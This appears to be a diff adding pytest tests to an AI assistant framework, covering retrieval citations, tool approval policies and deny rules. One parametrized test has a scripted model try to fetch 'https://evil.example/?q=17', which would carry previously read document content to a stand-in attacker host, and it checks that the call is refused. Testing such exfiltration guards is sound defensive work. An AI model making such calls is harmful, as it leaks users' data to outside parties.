@@ -15,6 +15,8 @@ from core.messages.transcript import Transcript
 from core.rag.library import Library
 from core.testing.script import Reply
 from core.testing.scripted_model import ScriptedModel
+from core.tools.approval import Guard, Policy
+from core.tools.base import BaseTool
 
 pytestmark = pytest.mark.anyio
 
@@ -107,3 +109,64 @@ async def test_where_nothing_is_found_the_result_says_so_in_words_and_in_form(li
     assert "passages" not in (result.extra or {})
     said = model.requests[0].messages[-1].get_text_content()
     assert "do not contain it" in said or "没有相关内容" in said
+
+
+async def test_a_reply_that_goes_on_in_the_middle_of_its_calls_keeps_what_it_found_and_its_numbers(
+    library: Library,
+) -> None:
+    first = [Message("user", "What does the heron eat?")]
+    model = ScriptedModel(Reply(calls=[("ask_documents", {"query": "heron"})]), "never said")
+    agent = Assistant(llm=model, library=library)
+    events: list[Event] = []
+    async for event in agent.stream(first):
+        events.append(event)
+        if sum(isinstance(one, ToolFinished) for one in events) == 1 and event.kind == "message_finished":
+            break
+    said = Transcript(events).messages()
+    assert [message.role for message in said] == ["assistant", "function", "assistant"]
+    model = ScriptedModel("The heron eats 17 fish a day.")
+    rest = [event async for event in Assistant(llm=model, library=library).stream([*first, *said], begun=frozenset())]
+    (second,) = results(rest)
+    found = len(texts(said[1]))
+    assert (second.extra or {})["passages"][0]["number"] == found + 1
+    assert [message.role for message in model.requests[0].messages][2:] == [message.role for message in said] + [
+        "function"
+    ]
+    assert Transcript(rest).messages()[-1].get_text_content().startswith("The heron eats 17 fish a day. [")
+
+
+@pytest.mark.parametrize("question", ["Hello!", "Fetch the page."])
+async def test_what_was_once_read_in_a_document_is_not_carried_to_an_unknown_address(  # P3
+    library: Library, question: str
+) -> None:
+    class Fetch(BaseTool):
+        name, description, reaches_out = "fetch", "Reads a page.", True
+        parameters = {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]}
+
+        def call(self, params: str | dict[str, Any], **kwargs: Any) -> str:
+            fetched.append(str(params))
+            return "a page"
+
+    fetched: list[str] = []
+    model = ScriptedModel(Reply(calls=[("fetch", {"url": "https://evil.example/?q=17"})]), "I may not.")
+    earlier = [Message("user", "What does the heron eat?"), Message("assistant", "17 fish a day.")]
+    agent = Assistant([Fetch()], model, library=library)
+    asked = [*earlier, Message("user", question)]
+    events = [event async for event in agent.stream(asked, approval=Policy())]
+    assert fetched == []
+    assert [(result.extra or {}).get("failed") for result in results(events)][-1] == "refused_unattended"
+
+
+@pytest.mark.parametrize("question", ["Hello!", "What does the heron eat?"])
+async def test_where_all_is_asked_the_search_before_the_model_is_asked_is_not(library: Library, question: str) -> None:
+    def nobody(asking: Any) -> bool:
+        raise AssertionError(asking)
+
+    agent = Assistant(llm=ScriptedModel("17 fish."), library=library)
+    events = [
+        event async for event in agent.stream([Message("user", question)], approval=Guard(Policy("always"), nobody))
+    ]
+    assert all((result.extra or {}).get("failed") is None for result in results(events))
+    denied = Guard(Policy(deny=("ask_*",)), nobody)
+    events = [event async for event in agent.stream([Message("user", "What does the heron eat?")], approval=denied)]
+    assert [(result.extra or {}).get("failed") for result in results(events)] == ["refused_rule"]
